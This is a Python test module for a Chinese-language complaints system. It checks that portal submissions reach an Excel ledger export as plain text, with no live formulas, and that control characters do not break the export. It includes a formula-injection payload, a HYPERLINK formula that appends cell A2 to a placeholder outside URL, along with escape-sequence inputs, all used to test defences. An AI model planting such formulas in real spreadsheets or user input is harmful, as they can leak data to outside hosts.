"""What the public types reaches staff spreadsheets as the text it is, and never breaks them.

A formula typed into the portal must arrive in the ledger as text (not a live formula in
the office's Excel), and a control character anywhere in a case must not stop the export
that every colleague relies on; the stored record keeps exactly what was typed.
"""

from __future__ import annotations

import io
import re
from typing import Any

from django.test import Client
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from tousu.cases.models import Case
from tousu.reports.ledger import EXPORT_COLUMNS
from tousu.reports.tests import exporting

HEADERS = [c.zh for c in EXPORT_COLUMNS]
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2,"点此查看")'
CONTROLS = "ctrl \x1b[31m \x07"


def _book(response: Any) -> Any:
    assert response.status_code == 200, response.content[:500]
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def _row_of(sheet: Worksheet, number: str) -> dict[str, Any]:
    """The ledger row of one case, as openpyxl reads the cells back."""
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == number:
            return dict(zip(HEADERS, row, strict=True))
    raise AssertionError(f"{number} is not in the ledger")


def _portal_submit(**fields: Any) -> str:
    data: dict[str, Any] = {
        "kind": "complaint",
        "category": "fees",
        "content": "x",
        "demands": "",
        "subject_name": "收费处",
        "anonymous": "on",
    }
    data.update(fields)
    r = Client().post("/o/acme/new/", data, follow=True)
    assert r.status_code == 200, r.content.decode()[:3000]
    found = re.search(r"<strong>([A-Z]+-[0-9-]+)</strong>", r.content.decode())
    assert found, r.content.decode()[:3000]
    return found.group(1)


def test_a_portal_formula_reaches_the_ledger_as_text(world, desk, cases):
    number = _portal_submit(content=FORMULA, subject_name="=1+2")
    book = _book(exporting.ledger(desk("supervisor").client))
    row = _row_of(book["台帐"], number)
    assert row["内容摘要"].data_type == "s" and row["内容摘要"].value == FORMULA
    assert row["被投诉对象"].data_type == "s" and row["被投诉对象"].value == "=1+2"
    formulas = [
        (ws.title, c.coordinate)
        for ws in book.worksheets
        for r in ws.iter_rows()
        for c in r
        if c.data_type == "f"
    ]
    assert formulas == []


def test_a_phone_number_with_a_plus_stays_as_typed_and_dates_stay_dates(world, desk, cases):
    r = world.api("clerk").register(
        content="+86 138 0000 1111 来电，@收费处 -重复收费",
        subject={"type": "department", "name": "+86 138 0000 1111"},
    )
    assert r.status_code == 201, r.content
    number = r.json()["number"]
    row = _row_of(_book(exporting.ledger(desk("supervisor").client))["台帐"], number)
    assert row["被投诉对象"].value == "+86 138 0000 1111"
    assert row["被投诉对象"].data_type == "s"
    assert row["内容摘要"].value == "+86 138 0000 1111 来电，@收费处 -重复收费"
    assert row["收到时间"].is_date and row["办理时限"].is_date


def test_a_control_character_from_the_portal_does_not_break_the_ledger_export(world, desk, cases):
    number = _portal_submit(content=CONTROLS, subject_name="bell\x07 \x1b[0m")
    book = _book(exporting.ledger(desk("supervisor").client))
    row = _row_of(book["台帐"], number)
    # Shown as U+FFFD where XML cannot hold the character; everything else as typed.
    assert row["内容摘要"].value == "ctrl \ufffd[31m \ufffd"
    assert row["被投诉对象"].value == "bell\ufffd \ufffd[0m"
    # The stored record is the reporter's words, unchanged.
    assert Case.objects.get(number=number).content == CONTROLS


def test_a_control_character_from_the_api_does_not_break_the_ledger_export(world, desk, cases):
    r = world.api("clerk").register(
        content=CONTROLS,
        demands="\x01\x02 退费 \x0b\x0c\x0e\x1f",
        complainant={"anonymous": False, "name": "王\x08建国", "phone": "13912345678"},
        subject={"type": "department", "name": "\ufffe收费处\uffff"},
    )
    assert r.status_code == 201, r.content
    number = r.json()["number"]
    # The registering clerk sees the complainant's name (need-to-know)
    row = _row_of(_book(exporting.ledger(desk("clerk").client))["台帐"], number)
    assert row["内容摘要"].value == "ctrl \ufffd[31m \ufffd"
    assert row["投诉人"].value == "王\ufffd建国"
    assert row["被投诉对象"].value == "\ufffd收费处\ufffd"
